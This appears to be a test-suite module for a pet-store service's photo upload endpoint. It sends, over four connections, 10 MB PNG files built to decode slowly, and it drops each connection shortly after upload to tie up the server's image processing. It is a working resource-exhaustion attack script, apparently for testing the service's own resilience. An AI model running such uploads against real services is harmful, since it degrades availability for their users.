import { setTimeout as pause } from 'node:timers/promises';
import { widePng } from '@petstore/testing/pictures/hostile-pictures.ts';
import { AttackClient } from '../attack-tools.ts';
import type { SurfaceAttack } from '../surface-attack.ts';
import { beginUpload, pathOfPhotos, statusOf } from './upload-requests.ts';

const BYTES = 9_900_000;
/** A picture that takes long to decode, so that others wait behind it. What follows its end is ignored. */
const PICTURE = Buffer.concat([widePng(6000, 4000), Buffer.alloc(BYTES)]).subarray(0, BYTES);
const CONNECTIONS = 4;

/** Sends photos of 10 MB, and closes each connection when the service has the photo: a `connection error` in the result. */
export const attack: SurfaceAttack = {
  plan: 'free',
  role: 'member',
  async run(target, isOver) {
    const path = await pathOfPhotos(target);
    const client = new AttackClient(target);
    return client.repeatWith(CONNECTIONS, isOver, async () => {
      const upload = beginUpload(target, path, BYTES);
      // Node calls it when the kernel has taken the picture.
      upload.end(PICTURE, async () => {
        await pause(100);
        upload.destroy();
      });
      client.count(await statusOf(upload));
    });
  },
};
